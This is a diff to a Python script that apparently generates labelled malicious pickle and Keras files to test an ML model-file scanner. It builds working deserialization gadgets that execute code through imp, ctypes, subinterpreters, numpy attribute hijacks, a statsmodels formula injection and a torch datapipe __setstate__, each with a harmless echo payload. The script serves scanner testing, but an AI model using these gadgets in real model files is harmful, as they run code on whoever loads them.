@@ -364,8 +364,16 @@ def keras_zip(cfg, method=zipfile.ZIP_DEFLATED, name="model.keras"):
     with zipfile.ZipFile(b, "w", compression=method) as z:
         z.writestr("metadata.json", json.dumps({"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}))
         z.writestr("config.json", json.dumps(cfg))
-        z.writestr("model.weights.h5", b"")
+        z.writestr("model.weights.h5", TINY_H5)
     return b.getvalue()
+import h5py, tempfile
+def _tiny_h5():
+    with tempfile.TemporaryDirectory() as d:
+        p = os.path.join(d, "w.h5")
+        with h5py.File(p, "w") as f:
+            f.create_group("layers")
+        return open(p, "rb").read()
+TINY_H5 = _tiny_h5()
 fake_code = base64.b64encode(b"\xe3" + b"\0" * 15 + b"mlsec-blind-not-real-marshal").decode()
 def layer(cls, cfg, module="keras.layers"):
     return {"module": module, "class_name": cls, "config": cfg, "registered_name": None}
@@ -588,7 +596,7 @@ pk("zipfile_extractall.pkl", C(G("zipfile", "ZipFile.extractall"), C(G("zipfile"
 pk("site_addsitedir.pkl", C(G("site", "addsitedir"), "/tmp/mlsec_blind_dir"), T, "site.addsitedir executes .pth import lines")
 pk("frozen_importlib_sourcefileloader.pkl", C(G("_frozen_importlib_external", "SourceFileLoader.load_module"), C(G("_frozen_importlib_external", "SourceFileLoader"), "mlsec_blind", "/tmp/mlsec_blind.py")), T, "frozen importlib alias runs a file")
 pk("imp_load_source.pkl", C(G("imp", "load_source"), "mlsec_blind", "/tmp/mlsec_blind.py"), T, "imp.load_source runs a file")
-write("_imp_create_dynamic.pkl", P(hdr, enc(G("_imp", "create_dynamic")), b"(", enc(C(G("types", "SimpleNamespace"))), enc({"name": "mlsec_blind", "origin": "/tmp/mlsec_blind.so"}), b"btR."), T, "_imp.create_dynamic loads an extension", "import class")
+write("_imp_create_dynamic.pkl", P(hdr, enc(G("_imp", "create_dynamic")), b"(", enc(C(G("types", "SimpleNamespace"))), enc({"name": "mlsec_blind", "origin": "/tmp/mlsec_blind.so"}), b"btR."), T + ": _imp.create_dynamic loads an extension", "import class")
 pk("_ctypes_dlopen.pkl", C(G("_ctypes", "dlopen"), "/tmp/mlsec_blind.so", 0), T, "_ctypes.dlopen")
 pk("xxsubinterpreters_run_string.pkl", C(G("_xxsubinterpreters", "run_string"), C(G("_xxsubinterpreters", "create")), PY), T, "subinterpreter run_string exec")
 pk("interpreters_run_string.pkl", C(G("_interpreters", "run_string"), 0, PY), T, "3.13 _interpreters.run_string")
@@ -628,6 +636,21 @@ hij = P(hdr, enc(G("pandas.core.indexes", "base")), enc({"_new_Index": G("posix"
 write("build_hijack_module_attr.pkl", hij, "BUILD on a module object rebinds an allow-listed name", "attribute hijack")
 hij2 = P(hdr, enc(G("numpy.core", "multiarray")), enc((None, {"_reconstruct": G("subprocess", "getoutput")})), b"b0", enc(C(G("numpy.core.multiarray", "_reconstruct"), CMD)), b".")
 write("build_hijack_slotstate.pkl", hij2, "BUILD slot-state setattr rebinds numpy _reconstruct", "attribute hijack")
+
+
+# ---------------------------------------------------------------- 12. more BUILD-time (__setstate__) gadgets of allow-listed classes
+import statsmodels.formula.api as _smf, pandas as _pd, numpy as _np
+_rng = _np.random.RandomState(0)
+_dd = _pd.DataFrame({"y": _rng.rand(10), "a": _rng.rand(10)})
+_res = _smf.ols("y ~ a", data=_dd).fit()
+raw = _pickle_for_dumping_only.dumps(_res, protocol=2)   # the benign formula-OLS pickle (dumped, never loaded)
+old = b"y ~ a"; new = b"y ~ a + I(__import__('os').system('echo mlsec-blind'))"
+n_ = raw.count(b"X" + struct.pack("<I", len(old)) + old)
+assert n_ >= 1, n_
+raw = raw.replace(b"X" + struct.pack("<I", len(old)) + old, b"X" + struct.pack("<I", len(new)) + new)
+write("statsmodels_formula_restore_design_info.pkl", raw, L, "statsmodels ModelData.__setstate__ re-runs patsy dmatrices(formula) from the pickle (restore_design_info) -> eval")
+dp = P(b"\x80\x02", enc(G("torch.utils.data.datapipes.datapipe", "_IterDataPipeSerializationWrapper"), 2), b")\x81", enc((b"\x80\x04cos\nsystem\n\x8c\x10echo mlsec-blind\x85R.", False), 3), b"b.")
+write("torch_datapipe_wrapper_setstate.pkl", b"\x80\x03" + dp[2:], L, "torch datapipe serialization wrapper __setstate__ pickle.loads(state)")
 
 with open(os.path.join(OUT, "MANIFEST.tsv"), "w") as f:
     f.write("file\tclass\tsource\texpected\n")
